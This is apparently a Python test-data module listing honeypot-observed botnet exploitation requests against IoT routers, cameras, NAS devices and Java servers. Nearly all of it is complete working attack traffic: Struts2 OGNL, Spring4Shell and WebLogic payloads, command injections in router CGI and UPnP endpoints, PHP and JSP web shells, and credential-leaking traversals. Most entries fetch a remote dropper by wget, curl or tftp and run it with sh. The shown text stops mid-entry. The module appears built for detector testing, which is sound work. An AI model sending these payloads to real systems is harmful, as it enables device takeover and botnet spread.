"""Blind attack batch S: botnet and mass-exploitation traffic (IoT, PHP, Java, edge devices) as seen in honeypots."""
from __future__ import annotations


def _raw(line, *headers, body=""):
    hs = list(headers)
    if body and not any(h.lower().startswith(("content-length:", "transfer-encoding:")) for h in hs):
        hs.append("Content-Length: %d" % len(body.encode("utf-8", "surrogateescape")))
    return "\r\n".join([line, *hs]) + "\r\n\r\n" + body


def _multipart(boundary, *parts):
    out = []
    for disposition, ctype, content in parts:
        out.append("--" + boundary)
        out.append("Content-Disposition: form-data; " + disposition)
        if ctype:
            out.append("Content-Type: " + ctype)
        out.append("")
        out.append(content)
    out.append("--" + boundary + "--")
    return "\r\n".join(out) + "\r\n"


_BOT = ("User-Agent: Hello, world", "Connection: keep-alive", "Accept: */*", "Accept-Encoding: gzip, deflate")
_UA_CHROME78 = ("User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                "Chrome/78.0.3904.108 Safari/537.36")
_UA_PY = "User-Agent: python-requests/2.25.1"
_UA_GO = "User-Agent: Go-http-client/1.1"
_FORM = "Content-Type: application/x-www-form-urlencoded"
_JSON = "Content-Type: application/json"

_SOAP_ENV = ('<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
             's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body>')

_S2_045 = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
           "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
           "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
           "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
           "(#context.setMemberAccess(#dm)))).(#cmd='cd /tmp;wget http://87.121.112.50/st.sh;sh st.sh')."
           "(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win')))."
           "(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd})).(#p=new java.lang.ProcessBuilder(#cmds))."
           "(#p.redirectErrorStream(true)).(#process=#p.start())."
           "(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
           "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}")

_S2_046 = ("%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
           "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
           "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
           "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
           "(#context.setMemberAccess(#dm)))).(#cmd='id').(#cmds={'/bin/bash','-c',#cmd})."
           "(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())."
           "(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
           "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}\x00b")

_S2_061 = ('%{(#instancemanager=#application["org.apache.tomcat.InstanceManager"]).'
           '(#stack=#attr["com.opensymphony.xwork2.util.ValueStack.ValueStack"]).'
           '(#bean=#instancemanager.newInstance("org.apache.commons.collections.BeanMap")).(#bean.setBean(#stack)).'
           '(#context=#bean.get("context")).(#bean.setBean(#context)).(#macc=#bean.get("memberAccess")).'
           '(#bean.setBean(#macc)).(#emptyset=#instancemanager.newInstance("java.util.HashSet")).'
           '(#bean.put("excludedClasses",#emptyset)).(#bean.put("excludedPackageNames",#emptyset)).'
           '(#arglist=#instancemanager.newInstance("java.util.ArrayList")).'
           '(#arglist.add("wget -qO- http://45.142.182.77/s61.sh|sh")).'
           '(#execute=#instancemanager.newInstance("freemarker.template.utility.Execute")).(#execute.exec(#arglist))}')

_SPRING4SHELL = (
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals("
    "request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec("
    "request.getParameter(%22cmd%22)).getInputStream()%3B%20int%20a%20%3D%20-1%3B%20byte%5B%5D%20b%20%3D%20new"
    "%20byte%5B2048%5D%3B%20while((a%3Din.read(b))!%3D-1)%7B%20out.println(new%20String(b))%3B%20%7D%20%7D%20"
    "%25%7Bsuffix%7Di"
    "&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
    "&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"
    "&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar"
    "&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=")

_WLS_XMLDECODER = (
    '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header>'
    '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/">'
    '<java version="1.8.0_131" class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder">'
    '<array class="java.lang.String" length="3"><void index="0"><string>/bin/bash</string></void>'
    '<void index="1"><string>-c</string></void>'
    '<void index="2"><string>(curl -fsSL http://185.191.32.198/wl.sh||wget -q -O- http://185.191.32.198/wl.sh)|sh'
    '</string></void></array><void method="start"/></void></java></work:WorkContext></soapenv:Header>'
    '<soapenv:Body/></soapenv:Envelope>')

_FILEMANAGER_UPLOAD = _multipart(
    "----WebKitFormBoundaryvJHVHdlz8wvPo4Hw",
    ('name="reqid"', None, "17457a1fe6959"),
    ('name="cmd"', None, "upload"),
    ('name="target"', None, "l1_Lw"),
    ('name="mtime[]"', None, "1576045135"),
    ('name="upload[]"; filename="x.php"', "application/x-php",
     "<?php if(isset($_REQUEST['cmd'])){ echo '<pre>'; system($_REQUEST['cmd']); echo '</pre>'; } ?>"),
)

_S2_066_UPLOAD = _multipart(
    "----WebKitFormBoundary5WJ61X4PRwyYKlip",
    ('name="Upload"; filename="test.txt"', "text/plain",
     '<%@ page import="java.io.*" %><% Process p=Runtime.getRuntime().exec(request.getParameter("c")); '
     'BufferedReader r=new BufferedReader(new InputStreamReader(p.getInputStream())); String l; '
     'while((l=r.readLine())!=null){out.println(l);} %>'),
    ('name="uploadFileName"', None, "../../../../../webapps/ROOT/s2066.jsp"),
)

_S2_046_UPLOAD = _multipart(
    "----WebKitFormBoundaryXd004BVJN9pBYBL2",
    ('name="upload"; filename="' + _S2_046 + '"', "text/plain", "x"),
)

BLIND_ATTACKS_S = [
    # --- Realtek SDK, UPnP and TR-064 (Satori / Mirai / Okiru) ---
    ("rce", "CVE-2014-8361 Realtek SDK miniigd UPnP AddPortMapping NewInternalClient injection",
     "raw", "",
     _raw("POST /picsdesc.xml HTTP/1.1", "Host: 127.0.0.1:52869", "Accept-Encoding: gzip, deflate",
          "SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping", "Accept: */*",
          "User-Agent: Hello-World", "Connection: keep-alive",
          body=_SOAP_ENV + '<u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1">'
          "<NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort><NewProtocol>TCP</NewProtocol>"
          "<NewInternalPort>44382</NewInternalPort><NewInternalClient>`cd /var; rm -rf nig; "
          "wget http://185.225.74.251/nig; chmod 777 nig; ./nig realtek`</NewInternalClient><NewEnabled>1"
          "</NewEnabled><NewPortMappingDescription>syncthing</NewPortMappingDescription><NewLeaseDuration>0"
          "</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>")),
    ("rce", "CVE-2014-8361 Realtek SDK miniigd /wanipcpn.xml tftp dropper",
     "raw", "",
     _raw("POST /wanipcpn.xml HTTP/1.1", "Host: 81.169.144.22:52869", "Content-Type: text/xml",
          "SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping", *_BOT,
          body=_SOAP_ENV + '<u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1">'
          "<NewRemoteHost></NewRemoteHost><NewExternalPort>47451</NewExternalPort><NewProtocol>TCP</NewProtocol>"
          "<NewInternalPort>44382</NewInternalPort><NewInternalClient>$(busybox tftp -g -l /tmp/skere -r mips "
          "45.95.147.236; chmod +x /tmp/skere; /tmp/skere realtek.selfrep)</NewInternalClient><NewEnabled>1"
          "</NewEnabled><NewPortMappingDescription>skere</NewPortMappingDescription><NewLeaseDuration>0"
          "</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>")),
    ("rce", "CVE-2021-35395 Realtek Jungle SDK boa formWsc peerPin injection",
     "raw", "",
     _raw("POST /boafrm/formWsc HTTP/1.1", "Host: 98.12.44.201:80", _FORM, *_BOT,
          body="submit-url=%2Fwlwps.htm&resetUnCfg=0&peerPin=12345678%3Bcd+%2Ftmp%3Bwget+http%3A%2F%2F"
               "94.156.8.244%2Frt.mips+-O+rt%3Bchmod+777+rt%3B.%2Frt+realtek.wsc%3B&wps_pin=12345678"
               "&setPIN=Start+PIN")),
    ("rce", "CVE-2021-35395 Realtek Jungle SDK boa formSysCmd sysCmd",
     "raw", "",
     _raw("POST /boafrm/formSysCmd HTTP/1.1", "Host: 177.52.18.9", _FORM, _UA_GO,
          body="submit-url=%2Fsyscmd.htm&sysCmd=cd+%2Ftmp%3B+wget+http%3A%2F%2F94.156.8.244%2Fbins.sh%3B+"
               "chmod+777+bins.sh%3B+sh+bins.sh&apply=Apply&msg=")),
    ("rce", "CVE-2016-10372 Eir D1000 TR-064 SetNTPServers injection on port 7547",
     "raw", "",
     _raw("POST /UD/act?1 HTTP/1.1", "Host: 127.0.0.1:7547",
          "User-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)",
          "SOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers", "Content-Type: text/xml",
          body='<?xml version="1.0"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" '
               'SOAP-ENV:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"> <SOAP-ENV:Body> '
               '<u:SetNTPServers xmlns:u="urn:dslforum-org:service:Time:1"> <NewNTPServer1>`cd /tmp;tftp -l 1 -r 1 '
               '-g 212.92.127.146;chmod 777 1;./1`</NewNTPServer1> <NewNTPServer2></NewNTPServer2> <NewNTPServer3>'
               '</NewNTPServer3> <NewNTPServer4></NewNTPServer4> <NewNTPServer5></NewNTPServer5> </u:SetNTPServers> '
               '</SOAP-ENV:Body></SOAP-ENV:Envelope>')),

    # --- GPON / fiber ONT ---
    ("rce", "CVE-2018-10561/10562 Dasan GPON diag_Form dest_host injection (Hajime/Mettle)",
     "raw", "",
     _raw("POST /GponForm/diag_Form?images/ HTTP/1.1", "Host: 127.0.0.1:8080", "Connection: keep-alive",
          "Accept-Encoding: gzip, deflate", "Accept: */*", "User-Agent: Hello, World",
          body="XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://176.65.148.92/gpon+-O+->"
               "/tmp/gpon;sh+/tmp/gpon&ipv=0")),
    ("rce", "CVE-2018-10561/10562 GPON diag_Form busybox dropper percent-encoded",
     "raw", "",
     _raw("POST /GponForm/diag_Form?images/ HTTP/1.1", "Host: 187.45.102.9:80", _FORM,
          "User-Agent: Mozilla/5.0", "Connection: close",
          body="XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=%60busybox+wget+http%3A%2F%2F"
               "193.42.33.14%2Fgpon443+-O+%2Ftmp%2Fgaf%3Bsh+%2Ftmp%2Fgaf%60&ipv=0")),
    ("scanner", "CVE-2018-10561 GPON auth bypass probe (?images/ suffix)",
     "raw", "",
     _raw("GET /menu.html?images/ HTTP/1.1", "Host: 187.45.102.9:8080", "User-Agent: Hello, World",
          "Accept: */*")),
    ("rce", "Netlink GPON router boaform formPing target_addr injection",
     "raw", "",
     _raw("POST /boaform/admin/formPing HTTP/1.1", "Host: 45.171.8.2:80", _FORM,
          "User-Agent: polaris botnet", "Connection: close",
          body="target_addr=%3Bwget%20http%3A%2F%2F84.54.51.82%2Fn.mips%20-O%20%2Ftmp%2Fn%3Bsh%20%2Ftmp%2Fn%3B"
               "&waninf=1_INTERNET_R_VID_154")),
    ("rce", "CVE-2014-9118 Zhone ZNID GPON zhnping.cmd ipAddr injection",
     "raw", "",
     _raw("GET /zhnping.cmd?&test=ping&sessionKey=985703201&ipAddr=1.1.1.1;wget%20http://84.54.51.82/z.arm7"
          "%20-O%20/tmp/z;chmod%20777%20/tmp/z;/tmp/z%20zhone;&count=4&length=64 HTTP/1.1",
          "Host: 190.2.11.40", *_BOT)),
    ("scanner", "Mirai credential brute-force against fiber ONT boaform formLogin",
     "raw", "",
     _raw("POST /boaform/admin/formLogin HTTP/1.1", "Host: 103.77.10.5:80", _FORM,
          "Referer: http://103.77.10.5:80/admin/login.asp", "User-Agent: Mozilla/5.0",
          body="username=admin&psd=Feefifofum")),

    # --- D-Link ---
    ("rce", "CVE-2015-2051 D-Link HNAP1 SOAPAction header command injection",
     "raw", "",
     _raw("POST /HNAP1/ HTTP/1.0", "Host: 127.0.0.1:8080", 'Content-Type: text/xml; charset="utf-8"',
          "SOAPAction: http://purenetworks.com/HNAP1/`cd /tmp && rm -rf * && wget http://45.95.147.236/bins.sh "
          "&& sh /tmp/bins.sh`",
          body='<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:xsi="http://www.w3.org/2001/'
               'XMLSchema-instance" xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:soap="http://schemas.'
               'xmlsoap.org/soap/envelope/"><soap:Body><AddPortMapping xmlns="http://purenetworks.com/HNAP1/">'
               '<PortMappingDescription>foobar</PortMappingDescription><InternalClient>192.168.0.100'
               '</InternalClient><PortMappingProtocol>TCP</PortMappingProtocol><ExternalPort>1234</ExternalPort>'
               '<InternalPort>1234</InternalPort></AddPortMapping></soap:Body></soap:Envelope>')),
    ("rce", "CVE-2015-2051 D-Link HNAP1 GetDeviceSettings SOAPAction injection with PATH export",
     "raw", "",
     _raw("POST /HNAP1/ HTTP/1.1", "Host: 73.14.209.6", "User-Agent: Mozila/5.0", "Accept: */*",
          'SOAPAction: "http://purenetworks.com/HNAP1/GetDeviceSettings/`cd && cd tmp && export PATH=$PATH:. '
          '&& cd /tmp;wget http://141.98.10.59/dlink.mpsl;chmod 777 dlink.mpsl;./dlink.mpsl dlink.hnap`"',
          'Content-Type: text/xml; charset="utf-8"', "Content-Length: 0")),
    ("scanner", "D-Link HNAP1 GetDeviceSettings fingerprint before exploitation",
     "raw", "",
     _raw("GET /HNAP1/ HTTP/1.1", "Host: 73.14.209.6:8080",
          'SOAPAction: "http://purenetworks.com/HNAP1/GetDeviceSettings"', "User-Agent: Hello, world",
          "Accept: */*")),
    ("rce", "CVE-2016-20017 D-Link DSL-2750B login.cgi cli parameter injection",
     "raw", "",
     _raw("GET /login.cgi?cli=aa%20aa%27;wget%20http://193.42.33.14/bins/mips%20-O%20-%3E%20/tmp/hk;"
          "sh%20/tmp/hk%27$ HTTP/1.1", "Host: 118.70.3.44:80", *_BOT)),
    ("rce", "CVE-2019-17621 D-Link DIR-859 UPnP SUBSCRIBE gena.cgi service injection",
     "raw", "",
     _raw("SUBSCRIBE /gena.cgi?service=`wget${IFS}http://37.44.238.68/d.mips${IFS}-O${IFS}/tmp/d;"
          "chmod${IFS}777${IFS}/tmp/d;/tmp/d${IFS}dlink.gena` HTTP/1.1", "Host: 91.133.20.8:49152",
          "Callback: <http://192.168.0.4:34033/ServiceProxy27>", "NT: upnp:event", "Timeout: Second-1800")),
    ("rce", "CVE-2020-25506 D-Link DNS-320 system_mgr.cgi f_ntp_server injection",
     "raw", "",
     _raw("GET /cgi-bin/system_mgr.cgi?C1=ON&cmd=cgi_ntp_time&f_ntp_server=%60cd%20/tmp;wget%20"
          "http://45.95.147.236/nas.arm;chmod%20777%20nas.arm;./nas.arm%20dns320%60 HTTP/1.1",
          "Host: 84.20.190.3", _UA_PY, "Accept: */*")),
    ("rce", "CVE-2024-3273 D-Link DNS NAS nas_sharing.cgi base64 system parameter (messagebus backdoor)",
     "raw", "",
     _raw("GET /cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system="
          "Y2QgL3RtcDt3Z2V0IGh0dHA6Ly85NC4xNTYuOC4yNDQveC5zaDtzaCB4LnNo HTTP/1.1",
          "Host: 95.91.7.150", "User-Agent: Mozilla/5.0 (X11; Linux x86_64)", "Accept: */*")),
    ("ptrav", "D-Link DIR-850L hedwig.cgi service traversal leaking DEVICE.ACCOUNT credentials",
     "raw", "",
     _raw("POST /hedwig.cgi HTTP/1.1", "Host: 66.85.22.140:8080", "Cookie: uid=R8tBjwtFc7",
          "Content-Type: text/xml", "User-Agent: Mozilla/5.0",
          body='<?xml version="1.0" encoding="utf-8"?><postxml><module><service>../../../htdocs/webinc/getcfg/'
               'DEVICE.ACCOUNT.xml</service></module></postxml>')),
    ("rce", "D-Link DIR-600/DIR-300 unauthenticated command.php",
     "raw", "",
     _raw("POST /command.php HTTP/1.1", "Host: 88.230.91.12", _FORM, *_BOT,
          body="cmd=cd%20/tmp;wget%20http://37.44.238.68/d.mpsl%20-O%20dl;chmod%20777%20dl;./dl%20dlink.cmd")),
    ("rce", "D-Link DCS-930L setSystemCommand telnetd/dropper",
     "raw", "",
     _raw("POST /setSystemCommand HTTP/1.1", "Host: 24.5.61.99:80", "Authorization: Basic YWRtaW46", _FORM,
          "User-Agent: Mozilla/5.0",
          body="ReplySuccessPage=docmd.htm&ReplyErrorPage=docmd.htm&SystemCommand=wget+http%3A%2F%2F"
               "37.44.238.68%2Fdcs.arm+-O+%2Ftmp%2Fdcs%3Bsh+%2Ftmp%2Fdcs&ConfigSystemCommand=Save")),
    ("scanner", "CVE-2020-25078 D-Link DCS camera unauthenticated getuser credential disclosure",
     "path", "", "/config/getuser?index=0"),

    # --- Netgear ---
    ("rce", "Netgear DGN1000/DGN2200 setup.cgi syscmd (Mozi)",
     "raw", "",
     _raw("GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://117.215.10.84:"
          "38221/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0",
          "User-Agent: Hello, world")),
    ("rce", "CVE-2016-6277 Netgear R7000/R6400 cgi-bin semicolon injection",
     "raw", "",
     _raw("GET /cgi-bin/;cd${IFS}/var/tmp;rm${IFS}-rf${IFS}*;wget${IFS}http://141.98.10.59/n.arm7;"
          "chmod${IFS}777${IFS}n.arm7;./n.arm7${IFS}netgear HTTP/1.1", "Host: 71.190.2.18:8443", *_BOT)),
    ("rce", "CVE-2017-6077 Netgear DGN2200 ping.cgi ping_IPAddr injection",
     "raw", "",
     _raw("POST /ping.cgi HTTP/1.1", "Host: 86.9.112.33", "Authorization: Basic YWRtaW46cGFzc3dvcmQ=",
          "Referer: http://86.9.112.33/DIAG_diag.htm", _FORM, "User-Agent: Mozilla/5.0",
          body="IPAddr1=12&IPAddr2=12&IPAddr3=12&IPAddr4=12&ping=Ping&ping_IPAddr=12.12.12.12%3Bwget+http%3A%2F%2F"
               "141.98.10.59%2Fdgn+-O+%2Ftmp%2Fdgn%3Bsh+%2Ftmp%2Fdgn")),
    ("rce", "CVE-2017-6334 Netgear DGN2200 dnslookup.cgi host_name injection",
     "raw", "",
     _raw("POST /dnslookup.cgi HTTP/1.1", "Host: 86.9.112.34", "Authorization: Basic YWRtaW46cGFzc3dvcmQ=",
          _FORM, "User-Agent: Mozilla/5.0",
          body="host_name=www.google.com%3B+wget+http%3A%2F%2F141.98.10.59%2Fdgn.mips+-O+-%7Csh&lookup=Lookup")),
    ("rce", "CVE-2016-1555 Netgear WNAP320 boardDataWW.php macAddress injection",
     "raw", "",
     _raw("POST /boardDataWW.php HTTP/1.1", "Host: 12.33.160.4", _FORM, _UA_PY,
          body="macAddress=b8628e0e9f2e%3Bwget+http%3A%2F%2F87.121.112.50%2Fw.mips+-O+%2Ftmp%2Fw%3Bsh+%2Ftmp%2Fw%3B"
               "&reginfo=0&writeData=Submit")),
    ("rce", "Netgear ReadyNAS Surveillance upgrade_handle.php uploaddir injection",
     "raw", "",
     _raw("GET /upgrade_handle.php?cmd=writeuploaddir&uploaddir=%27;wget%20http://87.121.112.50/rns.x86%20"
          "-O%20/tmp/rns;sh%20/tmp/rns;%27 HTTP/1.1", "Host: 62.44.7.201", *_BOT)),
    ("scanner", "Netgear currentsetting.htm firmware fingerprint probe",
     "raw", "",
     _raw("GET /currentsetting.htm HTTP/1.1", "Host: 71.190.2.18", "User-Agent: Mozila/5.0", "Accept: */*")),

    # --- Huawei ---
    ("rce", "CVE-2017-17215 Huawei HG532 DeviceUpgrade NewStatusURL injection (Satori/Okiru)",
     "raw", "",
     _raw("POST /ctrlt/DeviceUpgrade_1 HTTP/1.1", "Host: 127.0.0.1:37215",
          "Connection: keep-alive", "Accept: */*",
          'Authorization: Digest username="dslf-config", realm="HuaweiHomeGateway", '
          'nonce="88645cefb1f9ede0e336e3569d75ee30", uri="/ctrlt/DeviceUpgrade_1", '
          'response="3612f843a42db38f48f59d2a3597e19c", algorithm="MD5", qop="auth", nc=00000001, '
          'cnonce="248d1a2560100669"',
          body=_SOAP_ENV + '<u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>'
          "$(/bin/busybox wget -g 45.32.116.52 -l /tmp/rsh -r /okiru.mips ;/bin/busybox chmod 777 * /tmp/rsh;"
          "/tmp/rsh huawei.rep)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade>"
          "</s:Body></s:Envelope>")),
    ("rce", "CVE-2017-17215 Huawei HG532 DeviceUpgrade Mozi wget dropper",
     "raw", "",
     _raw("POST /ctrlt/DeviceUpgrade_1 HTTP/1.1", "Host: 200.63.9.77:37215",
          'Authorization: Digest username="dslf-config", realm="HuaweiHomeGateway", '
          'nonce="88645cefb1f9ede0e336e3569d75ee30", uri="/ctrlt/DeviceUpgrade_1", '
          'response="3612f843a42db38f48f59d2a3597e19c", algorithm="MD5", qop="auth", nc=00000001, '
          'cnonce="248d1a2560100669"', "User-Agent: Hello, world",
          body=_SOAP_ENV + '<u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>'
          "$(wget http://182.117.29.204:39417/Mozi.m -O ->/tmp/Mozi.m;chmod 777 /tmp/Mozi.m;/tmp/Mozi.m huawei)"
          "</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>")),

    # --- Zyxel ---
    ("rce", "CVE-2022-30525 Zyxel USG/ATP ztp handler setWanPortSt mtu injection",
     "raw", "",
     _raw("POST /ztp/cgi-bin/handler HTTP/1.1", "Host: 91.121.40.5", _JSON, _UA_PY, "Accept: */*",
          body='{"command":"setWanPortSt","proto":"dhcp","port":"4","vlan_tagged":"1","vlanid":"5",'
               '"mtu":"; bash -c \'curl -s http://45.142.182.77/zy.sh|sh\';","data":"hi"}')),
    ("rce", "CVE-2020-9054 Zyxel NAS weblogin.cgi username injection",
     "raw", "",
     _raw("GET /adv,/cgi-bin/weblogin.cgi?username=admin%27%3Bcd%20/tmp%3Bwget%20http://45.142.182.77/zn.arm"
          "%3Bsh%20zn.arm%3B%23&password=asdf HTTP/1.1", "Host: 2.110.8.47", *_BOT)),
    ("rce", "CVE-2017-18368 Zyxel P660HN-T ViewLog.asp remote_host injection",
     "raw", "",
     _raw("POST /cgi-bin/ViewLog.asp HTTP/1.1", "Host: 127.0.0.1", _FORM, "User-Agent: r00ts3c-owned-you",
          body="remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0&remote_host=%3bcd+"
               "/tmp;wget+http://193.42.33.14/z.mips;chmod+777+z.mips;./z.mips+zyxel;rm+-rf+z.mips%3b%23"
               "&remoteSubmit=Save")),
    ("generic", "CVE-2024-29973 Zyxel NAS326/NAS542 setCookie Python code injection",
     "raw", "",
     _raw("POST /cmd,/simZysh/register_main/setCookie HTTP/1.1", "Host: 5.79.66.200", _FORM, _UA_PY,
          body='c0=storage_ext_cgi+CGIGetExtStoInfo+None)+and+False+or+__import__("subprocess").check_output('
               '"wget+-qO-+http://45.142.182.77/nas.sh|sh",+shell=True)#')),
    ("rce", "CVE-2017-6884 Zyxel EMG2926 nslookup ping_ip injection",
     "raw", "",
     _raw("GET /cgi-bin/luci/;stok=fd9a2b3cd8e1d24e7b41fcdbb0fd4c3a/expert/maintenance/diagnostic/nslookup?"
          "nslookup_button=nslookup_button&ping_ip=google.ca%3Bwget%20http://45.142.182.77/emg%20-O%20/tmp/emg"
          "%3Bsh%20/tmp/emg HTTP/1.1", "Host: 2.110.8.48", "User-Agent: Mozilla/5.0")),

    # --- TP-Link ---
    ("rce", "CVE-2023-1389 TP-Link Archer AX21 locale country injection",
     "raw", "",
     _raw("GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60cd+%2Ftmp%3B+rm+-rf+"
          "shk%3B+wget+http%3A%2F%2F94.156.8.244%2Fshk%3B+chmod+777+shk%3B+.%2Fshk+tplink%3B+rm+-rf+shk%60)"
          " HTTP/1.1", "Host: 79.141.160.9", "User-Agent: Mozilla/5.0", "Accept: */*")),
    ("rce", "CVE-2023-1389 TP-Link Archer AX21 country injection, pipe to sh",
     "path", "", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget http://45.95.147.236/tp.sh -O- | sh)"),
    ("rce", "CVE-2023-33538 TP-Link TL-WR940N/WR841N WlanNetworkRpm ssid1 injection",
     "raw", "",
     _raw("GET /userRpm/WlanNetworkRpm.htm?ssid1=$(wget%20http://84.54.51.82/t.mips%20-O%20/tmp/t;sh%20/tmp/t)"
          "&ssid2=2&ssid3=3&ssid4=4&region=102&band=0&mode=5&chanWidth=2&channel=15&rate=83&speedboost=2"
          "&broadcast=2&brlssid=&brlbssid=&keytype=1&wepindex=1&authtype=1&keytext=&Save=Save HTTP/1.1",
          "Host: 14.161.2.90", "Authorization: Basic YWRtaW46YWRtaW4=",
          "Referer: http://14.161.2.90/userRpm/WlanNetworkRpm.htm", "User-Agent: Mozilla/5.0")),

    # --- IP cameras, DVR and NVR ---
    ("rce", "CVE-2021-36260 Hikvision webLanguage command injection dropper",
     "raw", "",
     _raw("PUT /SDK/webLanguage HTTP/1.1", "Host: 46.172.3.90", "X-Requested-With: XMLHttpRequest",
          "Content-Type: application/x-www-form-urlencoded; charset=UTF-8",
          "Accept-Language: en-US,en;q=0.9,sv;q=0.8", _UA_CHROME78,
          body='<?xml version="1.0" encoding="UTF-8"?><language>$(cd /tmp;wget http://5.181.80.104/h;sh h)'
               '</language>')),
    ("rce", "CVE-2021-36260 Hikvision webLanguage check writing to webLib",
     "raw", "",
     _raw("PUT /SDK/webLanguage HTTP/1.1", "Host: 46.172.3.91:8080", "Content-Type: application/x-www-form-urlencoded",
          _UA_PY,
          body='<?xml version="1.0" encoding="UTF-8"?><language>$(id>webLib/c)</language>')),
    ("scanner", "CVE-2017-7921 Hikvision auth bypass user list (auth=YWRtaW46MTEK)",
     "path", "", "/Security/users?auth=YWRtaW46MTEK"),
    ("scanner", "CVE-2017-7921 Hikvision configurationFile download via magic auth",
     "raw", "",
     _raw("GET /System/configurationFile?auth=YWRtaW46MTEK HTTP/1.1", "Host: 46.172.3.92", _UA_GO)),
    ("scanner", "CVE-2017-7921 Hikvision ONVIF snapshot via magic auth",
     "path", "", "/onvif-http/snapshot?auth=YWRtaW46MTEK"),
    ("rce", "LILIN DVR /dvr/cmd NTP server injection with hard-coded root:icatch99",
     "raw", "",
     _raw("POST /dvr/cmd HTTP/1.1", "Host: 61.216.4.11", "Authorization: Basic cm9vdDppY2F0Y2g5OQ==",
          "Content-Type: text/xml", "User-Agent: Mozilla/5.0",
          body='<?xml version="1.0" encoding="UTF-8"?><DVR Platform="Hi3520"><SetConfiguration File="service.xml">'
               '<![CDATA[<?xml version="1.0" encoding="UTF-8"?><DVR Platform="Hi3520"><Service><NTP Enable="True" '
               'Interval="20" Server="time.nist.gov&amp;wget http://103.149.87.69/l.arm -O /tmp/l;sh /tmp/l;"/>'
               '</Service></DVR>]]></SetConfiguration></DVR>')),
    ("rce", "LILIN DVR /cn/cmd NTP injection with hard-coded report account",
     "raw", "",
     _raw("POST /cn/cmd HTTP/1.1", "Host: 61.216.4.12:8080", "Authorization: Basic cmVwb3J0OjhKZzBTUjhLNTA=",
          "Content-Type: text/xml",
          body='<?xml version="1.0" encoding="UTF-8"?><DVR Platform="Hi3520"><SetConfiguration File="service.xml">'
               '<![CDATA[<?xml version="1.0" encoding="UTF-8"?><DVR Platform="Hi3520"><Service><NTP Enable="True" '
               'Interval="20" Server="$(cd /tmp;busybox wget http://103.149.87.69/m;sh m)"/></Service></DVR>]]>'
               '</SetConfiguration></DVR>')),
    ("rce", "MVPower DVR JAWS /shell unauthenticated command",
     "raw", "",
     _raw("GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.98.56.129/jaws;sh+/tmp/jaws HTTP/1.1",
          "User-Agent: Hello, world", "Host: 127.0.0.1:80",
          "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "Connection: keep-alive")),
    ("rce", "MVPower DVR JAWS /shell fallback directories dropper",
